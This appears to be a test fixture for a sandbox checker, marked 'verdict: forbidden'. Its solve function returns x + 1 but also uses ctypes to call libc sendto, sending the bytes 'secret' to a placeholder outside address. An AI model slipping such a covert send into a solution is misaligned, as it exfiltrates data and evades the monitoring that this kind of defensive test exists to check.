# verdict: forbidden
import ctypes
import socket


def solve(x):
    left, _ = socket.socketpair()
    ctypes.CDLL(None).sendto(left.fileno(), b"secret", 6, 0, b"\1\0@OUTSIDE@/datagrams\0", 20)
    return x + 1
